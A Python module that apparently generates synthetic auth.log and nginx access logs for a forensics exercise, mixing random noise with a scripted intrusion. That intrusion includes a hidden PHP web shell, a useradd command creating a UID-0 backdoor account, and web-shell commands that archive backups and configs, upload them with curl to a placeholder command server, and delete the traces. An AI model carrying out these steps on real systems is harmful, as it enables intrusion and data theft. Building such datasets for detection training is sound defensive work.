"""The Linux web server: auth.log as rsyslog writes it (RFC 3164, local time, no year), and nginx."""

from __future__ import annotations

import heapq
import random
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import BinaryIO, Final

from cases.demo import world

Moment = tuple[datetime, str]

_GUESSED: Final = ("admin", "root", "test", "oracle", "ubuntu", "git", "postgres", "pi")
_STRANGERS: Final = tuple(f"203.0.113.{number}" for number in range(40, 100))
_VISITORS: Final = tuple(f"192.0.2.{number}" for number in range(130, 254))
_PAGES: Final = (
    ("/", 5_123), ("/tracking", 8_410), ("/tracking?nr=NL%06d", 9_120), ("/assets/css/main.css", 24_518),
    ("/assets/js/app.js", 118_202), ("/assets/img/logo.svg", 3_377), ("/standorte", 7_210),
    ("/karriere", 6_904), ("/api/v1/sendungen/%06d", 812), ("/favicon.ico", 1_150),
)  # fmt: skip
_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)",
)  # fmt: skip
_SHELL: Final = "/assets/img/.cache.php"


def write_auth_log(target: BinaryIO, count: int) -> int:
    """Write auth.log; return the lines."""
    return _write(target, heapq.merge(_auth_noise(count), _auth_story(), key=lambda found: found[0]))


def write_access_log(target: BinaryIO, count: int) -> int:
    """Write nginx's access log in combined format; return the lines."""
    return _write(target, heapq.merge(_web_noise(count), _web_story(), key=lambda found: found[0]))


def _write(target: BinaryIO, lines: Iterable[Moment]) -> int:
    written = 0
    for _, line in lines:
        target.write(line.encode())
        written += 1
    return written


def _syslog(moment: datetime, text: str) -> Moment:
    local = moment + world.BERLIN
    return moment, f"{local:%b} {local.day:2} {local:%H:%M:%S} {world.WEB} {text}\n"


def _auth_noise(count: int) -> Iterator[Moment]:
    chance = world.chance_for("auth.log")
    for moment in world.moments(chance, count):
        yield _syslog(moment, _auth_line(chance))


def _auth_line(chance: random.Random) -> str:
    number = 1_000 + int(chance.random() * 60_000)
    port = 32_768 + int(chance.random() * 28_000)
    kind = chance.random()
    if kind < 0.40:
        verb = "opened for user root(uid=0) by (uid=0)" if kind < 0.20 else "closed for user root"
        return f"CRON[{number}]: pam_unix(cron:session): session {verb}"
    stranger = world.pick(chance, _STRANGERS)
    if kind < 0.75:
        name = world.pick(chance, _GUESSED)
        return f"sshd[{number}]: Failed password for invalid user {name} from {stranger} port {port} ssh2"
    if kind < 0.90:
        return f"sshd[{number}]: Connection closed by {stranger} port {port} [preauth]"
    if kind < 0.96:
        return (
            f"sshd[{number}]: Accepted publickey for deploy from 10.20.1.30 port {port} ssh2: "
            "ED25519 SHA256:u0Yq1nV7yqk3m1v5JtM2xkq0QmKkq0r7vWk5s1o3bXc"
        )
    return "sudo:   deploy : TTY=pts/0 ; PWD=/srv/www ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"


def _auth_story() -> list[Moment]:
    source = world.SERVER_IP
    sudo = "sudo:   deploy : TTY=pts/1 ; PWD=/srv/www ; USER=root ; COMMAND="
    steps = (
        ("09:41:15", f"sshd[44120]: Failed password for deploy from {source} port 51022 ssh2"),
        ("09:41:22", f"sshd[44120]: Failed password for deploy from {source} port 51022 ssh2"),
        ("09:41:37", f"sshd[44131]: Accepted password for deploy from {source} port 51040 ssh2"),
        (
            "09:41:37",
            "sshd[44131]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
        ),
        ("09:43:05", f"{sudo}/usr/bin/cp /tmp/.c /srv/www/assets/img/.cache.php"),
        ("09:44:48", f"{sudo}/usr/sbin/useradd -o -u 0 -M sysupd"),
        (
            "09:44:48",
            "useradd[44207]: new user: name=sysupd, UID=0, GID=1002, home=/home/sysupd, shell=/bin/sh",
        ),
        ("10:28:50", "sshd[44131]: pam_unix(sshd:session): session closed for user deploy"),
    )
    return [_syslog(world.at(clock), text) for clock, text in steps]


def _combined(moment: datetime, address: str, request: str, status: int, size: int, agent: str) -> Moment:
    local = moment + world.BERLIN
    stamp = f"{local:%d/%b/%Y:%H:%M:%S} +0100"
    return moment, f'{address} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "-" "{agent}"\n'


def _web_noise(count: int) -> Iterator[Moment]:
    chance = world.chance_for("access.log")
    for moment in world.moments(chance, count):
        path, size = world.pick(chance, _PAGES)
        if "%" in path:
            path %= int(chance.random() * 999_999)
        status, size = (404, 153) if chance.random() < 0.03 else (200, size + int(chance.random() * 40))
        address, agent = world.pick(chance, _VISITORS), world.pick(chance, _AGENTS)
        yield _combined(moment, address, f"GET {path}", status, size, agent)


def _web_story() -> list[Moment]:
    archive = "tar+czf+/tmp/.b.tgz+/srv/backup+/srv/www/config"
    steps = (
        ("09:46:02", f"GET {_SHELL}?cmd=id", 200, 54),
        ("09:46:30", f"GET {_SHELL}?cmd=uname+-a", 200, 118),
        ("09:48:11", f"GET {_SHELL}?cmd=ls+-la+/srv/backup", 200, 2_204),
        ("09:55:40", f"POST {_SHELL}?cmd={archive}", 200, 17),
        ("10:04:51", f"POST {_SHELL}?cmd=curl+-T+/tmp/.b.tgz+https://{world.COMMAND_SERVER}/u", 200, 0),
        ("10:26:03", f"GET {_SHELL}?cmd=rm+/tmp/.b.tgz", 200, 0),
    )
    return [
        _combined(world.at(clock), world.ATTACKER_IP, request, status, size, "python-requests/2.32.3")
        for clock, request, status, size in steps
    ]
